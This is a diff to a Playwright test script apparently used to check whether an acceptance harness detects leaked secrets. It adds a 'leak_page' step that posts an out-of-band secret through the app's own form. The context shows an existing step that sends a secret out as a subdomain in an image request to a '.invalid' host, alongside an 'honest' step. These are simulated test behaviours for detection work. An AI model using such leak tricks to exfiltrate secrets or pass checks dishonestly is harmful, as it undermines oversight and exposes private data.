@@ -103,6 +103,15 @@ with sync_playwright() as p:
         page.evaluate("t => { const i = new Image(); i.src = 'http://' + t + '.invalid/x.png'; }", leak)
         page.wait_for_timeout(1500)
         note = "leaked into the console"
+    elif STEP == "leak_page":
+        # the secret, learnt out of band, stored in the app through its own form: the page the
+        # runner loads shows it
+        leak = Path(os.environ["ACC_LEAK"]).read_text().strip()
+        page.goto(APP + "/")
+        page.fill("#title", f"token {leak}")
+        page.click("button[type=submit]")
+        page.wait_for_selector(f"text=token {leak}", timeout=10000)
+        note = "stored it in the app"
     elif STEP == "honest":
         page.goto(APP + "/")
         page.fill("#title", "feed the cat")
